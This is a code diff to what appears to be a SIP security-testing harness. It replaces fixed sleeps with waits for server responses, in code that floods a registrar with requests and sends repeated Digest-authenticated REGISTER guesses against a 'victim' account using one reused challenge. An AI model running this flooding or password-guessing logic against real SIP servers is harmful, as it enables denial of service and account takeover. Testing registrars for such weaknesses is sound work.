@@ -105,6 +105,7 @@ def guess(spec):
 def count_answers(spec, make):
     """Sends what `make` returns at a pace, and counts the answers."""
     caller, answered, done = Caller(spec), [0], threading.Event()
+    heard_at = [time.monotonic()]
 
     def listen():
         caller.socket.settimeout(0.2)
@@ -112,6 +113,7 @@ def count_answers(spec, make):
             try:
                 caller.socket.recv(65536)
                 answered[0] += 1
+                heard_at[0] = time.monotonic()
             except OSError:
                 pass
 
@@ -123,7 +125,10 @@ def count_answers(spec, make):
         except OSError:
             pass
         time.sleep(1 / spec["pace"])
-    time.sleep(1)
+    # The last answers are on their way until it has been silent for a second, or for ten seconds at most.
+    ended = time.monotonic()
+    while time.monotonic() - max(ended, heard_at[0]) < 1 and time.monotonic() - ended < 10:
+        done.wait(0.05)
     done.set()
     listener.join()
     return {"sent": spec["count"], "answered": answered[0]}
@@ -157,7 +162,12 @@ def share_nonce(spec):
     found = re.search(r"WWW-Authenticate: Digest (.*)", text)
     victim.challenge = dict(re.findall(r'(\w+)="?([^",\r]+)"?', found[1]))
     victim.socket.send(victim.request("REGISTER", spec["account"], token(), 1))
-    time.sleep(0.1)
+    # Until its own challenge is there, or is known not to come.
+    victim.socket.settimeout(1)
+    try:
+        victim.socket.recv(65536)
+    except OSError:
+        pass
     for number in range(spec["count"]):
         headers = victim.credentials("REGISTER", spec["account"], f"guess-{number}")
         victim.socket.send(victim.request("REGISTER", spec["account"], token(), 1, headers))
